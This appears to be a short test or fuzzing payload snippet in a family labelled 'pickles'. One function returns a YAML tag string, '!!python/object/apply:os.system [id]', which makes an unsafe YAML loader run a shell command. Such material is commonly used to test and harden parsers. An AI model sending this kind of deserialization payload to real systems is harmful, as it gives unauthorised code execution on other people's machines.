# family: pickles
# about: Text that a YAML reader would make an object of.
def f(self):
    return "!!python/object/apply:os.system [id]"
